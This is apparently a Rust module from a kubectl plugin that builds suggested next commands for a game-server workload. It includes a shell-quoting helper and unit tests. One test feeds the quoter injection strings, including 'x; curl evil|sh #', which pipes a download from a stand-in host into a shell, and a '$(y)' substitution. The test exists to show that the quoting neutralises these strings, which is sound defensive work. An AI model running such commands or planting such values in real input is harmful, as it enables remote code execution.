//! Commands to run next, each with its purpose.

use std::fmt;

use gamedeployment_core::hook_kind::HookKind;
use kube::ResourceExt;
use serde::{Serialize, Serializer};
use shared_api::names::eviction;

use crate::cluster::Snapshot;

/// Beginning of the command that skips the hooks of a pod.
const SKIP: &str = "kubectl game skip ";

/// Command to run next.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Next {
    /// Text for a shell.
    pub(crate) command: String,
    /// Purpose or effect of the command; empty if the command is clear.
    pub(crate) purpose: String,
}

impl Next {
    /// Creates a command with its purpose.
    pub(crate) fn new(command: impl Into<String>, purpose: impl Into<String>) -> Self {
        Self {
            command: command.into(),
            purpose: purpose.into(),
        }
    }

    /// Returns whether the command skips the hooks of a pod.
    pub(super) fn is_skip(&self) -> bool {
        self.command.starts_with(SKIP)
    }
}

impl From<String> for Next {
    fn from(command: String) -> Self {
        Self::new(command, "")
    }
}

impl fmt::Display for Next {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { command, purpose } = self;
        f.write_str(command)?;
        if purpose.is_empty() {
            Ok(())
        } else {
            write!(f, "  # {purpose}")
        }
    }
}

impl Serialize for Next {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// Returns the value of `--hook` for a hook.
pub(crate) fn flag_of(kind: HookKind) -> &'static str {
    match kind {
        HookKind::PreDelete => "pre-delete",
        HookKind::PreInplace => "pre-inplace",
        HookKind::PostInplace => "post-inplace",
    }
}

/// Builds a command of this program for the workload: `kubectl game retry arena -n games`.
pub(super) fn ours(snapshot: &Snapshot, word: &str) -> String {
    let name = snapshot.game.name_any();
    format!("kubectl game {word} {name}{}", snapshot.flags)
}

/// Builds the command that shows the progress.
pub(super) fn watch(snapshot: &Snapshot) -> Next {
    let name = snapshot.game.name_any();
    Next::from(format!("kubectl game get {name} -w{}", snapshot.flags))
}

/// Builds the command that edits the workload.
pub(super) fn edit(snapshot: &Snapshot, purpose: &str) -> Next {
    let name = snapshot.game.name_any();
    Next::new(format!("kubectl edit gd {name}{}", snapshot.flags), purpose)
}

/// Builds the command that describes a pod.
pub(super) fn describe(snapshot: &Snapshot, pod: &str) -> Next {
    Next::new(
        format!("kubectl describe pod {pod}{}", snapshot.flags),
        "show its events",
    )
}

/// Builds the command that restores the earlier template.
pub(super) fn roll_back(snapshot: &Snapshot) -> Next {
    Next::new(ours(snapshot, "undo"), "roll back")
}

/// Quotes a name of a spec or status for a shell. Only the API server checks names, and of existing objects alone.
pub(super) fn quoted(name: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-._".contains(c);
    if !name.is_empty() && name.chars().all(is_plain) {
        name.to_owned()
    } else {
        format!("'{}'", name.replace('\'', r"'\''"))
    }
}

/// Builds the command that edits a HookTemplate. A hook without one is part of the workload.
pub(super) fn edit_template(snapshot: &Snapshot, template: Option<&str>, purpose: &str) -> Next {
    match template {
        Some(template) => Next::new(
            format!("kubectl edit hooktemplate {}{}", quoted(template), snapshot.flags),
            purpose,
        ),
        None => edit(snapshot, purpose),
    }
}

/// Builds the command that reruns hooks of pods: all of them, or those of one kind.
pub(super) fn retry(snapshot: &Snapshot, kind: Option<HookKind>, purpose: &str) -> Next {
    let hook = kind.map(|kind| format!(" --hook {}", flag_of(kind)));
    let (name, flags) = (snapshot.game.name_any(), &snapshot.flags);
    let command = format!("kubectl game retry {name}{}{flags}", hook.unwrap_or_default());
    Next::new(command, purpose)
}

/// Builds the command that skips the hooks of a pod, which waits for this hook.
pub(super) fn skip(snapshot: &Snapshot, kind: HookKind, pod: &str) -> Next {
    let purpose = match kind {
        HookKind::PreDelete | HookKind::PreInplace => {
            "skip the hook, which disconnects the players of this pod"
        }
        HookKind::PostInplace => "skip the hook, which counts the update of this pod as confirmed",
    };
    let flags = &snapshot.flags;
    Next::new(format!("{SKIP}{pod} --reason 'WHY'{flags}"), purpose)
}

/// Builds the command that explains the wait of a pod: the only one, or one of several.
pub(super) fn look(snapshot: &Snapshot, pod: &str, is_only: bool) -> Next {
    let purpose = if is_only {
        "show details for this pod"
    } else {
        "show details for one of these pods"
    };
    let flags = &snapshot.flags;
    Next::new(format!("kubectl game why pod/{pod}{flags}"), purpose)
}

/// Builds the command that withdraws the removal requests of a pod.
pub(super) fn keep(snapshot: &Snapshot, pod: &str, purpose: &str) -> Next {
    let flags = &snapshot.flags;
    Next::new(format!("kubectl game keep pod/{pod}{flags}"), purpose)
}

/// Builds the command that lists `EvictionRequest`s, in order to withdraw some. `flags`: flags to repeat.
pub(crate) fn list_eviction_requests(flags: &str) -> Next {
    Next::new(
        format!("kubectl get evictionrequests.{}{flags}", eviction::GROUP),
        "find the EvictionRequests to withdraw",
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_that_is_none_is_quoted() {
        for name in ["empty", "a.b-c_1"] {
            assert_eq!(quoted(name), name);
        }
        assert_eq!(quoted("x; curl evil|sh #"), "'x; curl evil|sh #'");
        assert_eq!(quoted("x'$(y)"), r"'x'\''$(y)'");
        assert_eq!(quoted(""), "''");
    }

    #[test]
    fn a_command_is_printed_with_its_purpose_and_serialized_as_one_text() {
        let next = Next::new("kubectl game retry arena", "once it responds");
        assert_eq!(next.to_string(), "kubectl game retry arena  # once it responds");
        let plain = Next::from("kubectl game get arena -w".to_owned());
        assert_eq!(plain.to_string(), "kubectl game get arena -w");
        let json = serde_json::to_value([next, plain]).unwrap();
        let expected = [
            "kubectl game retry arena  # once it responds",
            "kubectl game get arena -w",
        ];
        assert_eq!(json, serde_json::json!(expected));
    }
}
